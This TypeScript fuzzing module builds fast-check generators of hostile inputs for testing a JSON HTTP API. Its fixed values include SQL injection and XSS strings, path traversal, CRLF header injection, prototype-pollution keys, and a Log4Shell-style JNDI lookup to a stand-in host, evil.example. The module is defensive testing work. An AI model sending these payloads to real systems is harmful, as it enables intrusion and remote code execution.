/** Values that often break programs, for every place in a request. */
import * as fc from 'fast-check';

const KNOWN_TROUBLE = [
  '',
  ' ',
  '.',
  '..',
  '*',
  '%',
  '%zz',
  '%00',
  '%2e%2e%2f',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfff',
  '\ufeff',
  '\u202e',
  '\u2028',
  'ß',
  'İ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1.5',
  '1e999',
  '0x10',
  '9'.repeat(400),
  'a'.repeat(10_000),
  '😀'.repeat(300),
  '\r\nX-Injected: 1',
  "' OR 1=1 --",
  '"; DROP TABLE books; --',
  '${7*7}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/hosts',
  '{bull}:meta',
  'book_AAAAAAAAAAAAAAAAAAAAAA',
  'bookImport_AAAAAAAAAAAAAAAAAAAAAA',
  'nothing_AAAAAAAAAAAAAAAAAAAAAA',
  '__proto___AAAAAAAAAAAAAAAAAAAAAA',
];

const loneSurrogates = fc.string({
  unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCodePoint(code)),
  maxLength: 5,
});

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...KNOWN_TROUBLE), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }), weight: 1 },
  { arbitrary: loneSurrogates, weight: 1 },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(-1, 0, -0, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e21, 1e308, 5e-324),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const hostileKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toJSON', 'then', ''),
  hostileText,
);

/** Any JSON value. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom(null, true, false),
    hostileNumber,
    hostileText,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 4 }).map(toObject),
  ),
})).value;

/** Has `__proto__` as an ordinary field, as in JSON. */
export function toObject(entries: readonly (readonly [string, unknown])[]): object {
  // Creates a property, as a parser does, rather than setting the prototype.
  return Object.fromEntries(entries);
}

/** `[[[…]]]` or nested objects, as text: far deeper than real input. */
export const deepJson: fc.Arbitrary<string> = fc
  .record({ depth: fc.constantFrom(50, 1000, 20_000, 100_000), open: fc.constantFrom('[', '{"a":', '{"books":[') })
  .map(({ depth, open }) => {
    const close = open.startsWith('[') ? ']' : open.endsWith('[') ? ']}' : '}';
    return `${open.repeat(depth)}0${close.repeat(depth)}`;
  });

/** Text that is nearly JSON. */
export const brokenJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '{',
    '{"id":',
    "{'id':1}",
    '{"id":1,}',
    '{"id":1}{"id":2}',
    '{"id":NaN}',
    '{"id":1e999,"title":"a"}',
    '{"id":"1","id":"2","title":"a"}',
    '\ufeff{"id":"1","title":"a"}',
    '{"__proto__":{"id":"1"},"title":"a"}',
    '{"constructor":{"prototype":{"id":"1"}},"id":"1","title":"a"}',
    String.raw`{"id":"\ud800","title":"\u0000"}`,
    '// no\n{}',
    'null',
    '""',
    '[]',
    '[{}]',
    '0',
  ),
  hostileText,
  deepJson,
);

/** Printable ASCII and what may stand in a header beside it, at most 100 characters. */
const headerText = fc.string({
  unit: fc.constantFrom(...'abcXYZ019 -_=;,."\'\\/*+()<>@:?{}[]\t%\u00e9\u00ff'.split('')),
  maxLength: 100,
});

const HEADERS: Readonly<Record<string, readonly string[]>> = {
  Accept: [
    '*/*',
    'application/json',
    'text/event-stream',
    'text/html',
    'application/*;q=0',
    'a/b/c',
    ';;',
    'x'.repeat(3000),
  ],
  'Accept-Encoding': ['gzip', 'identity;q=0, *;q=0', 'br;q=9'],
  'Accept-Charset': ['utf-16'],
  'If-None-Match': ['*', 'W/"', '"a", W/"b", *', ','.repeat(2000)],
  'If-Match': ['*', '"a"'],
  'If-Modified-Since': ['yesterday', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  'Last-Event-ID': ['0', '-1', 'a'.repeat(3000)],
  'Idempotency-Key': ['"order-7"', 'order-7', '""', '"a"b"', '"\\"', `"${'k'.repeat(256)}"`, '"\\\\\\""'],
  Prefer: ['wait=0', 'wait=1', 'wait=-1', 'wait=1;wait=2, respond-async', 'wait="', '"'.repeat(2000), ','.repeat(3000)],
  Range: ['bytes=0-0', 'bytes=-1', 'bytes=9-1,1-9'],
  TE: ['trailers', 'deflate;q=0.5'],
  Expect: ['100-continue'],
  'Accept-Language': ['*', 'x'.repeat(3000)],
  Authorization: ['Bearer', 'Basic Og==', 'Bearer a.b.c'],
  Cookie: ['a=b', '__proto__=1'],
  Origin: ['null', 'https://evil.example', 'file://'],
  Referer: ['https://evil.example/?q=1'],
  Forwarded: ['for=1.1.1.1;host=evil.example;proto=gopher'],
  'X-Forwarded-Host': ['evil.example', 'a b'],
  'X-Forwarded-Proto': ['gopher'],
  'X-HTTP-Method-Override': ['DELETE'],
  'Access-Control-Request-Method': ['DELETE'],
  'Content-Encoding': ['gzip', 'none'],
  'X-Request-Id': ['${jndi:ldap://evil.example}', '1'],
};

/** Headers that a client may send with any request, with values that it may not. */
export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.oneof(
  fc.constant({}),
  fc
    .array(
      fc
        .constantFrom(...Object.keys(HEADERS))
        .chain((name) =>
          fc.tuple(fc.constant(name), fc.oneof(fc.constantFrom(...(HEADERS[name] ?? [''])), headerText)),
        ),
      { maxLength: 3 },
    )
    .map((entries) => Object.fromEntries(entries.map(([name, value]) => [name, value.trim()]))),
);

export const contentType: fc.Arbitrary<string | undefined> = fc.constantFrom(
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset="',
  'application/json;',
  'APPLICATION/JSON',
  'application/problem+json',
  'application/json, text/plain',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/graphql',
  '/',
  'json',
  undefined,
);
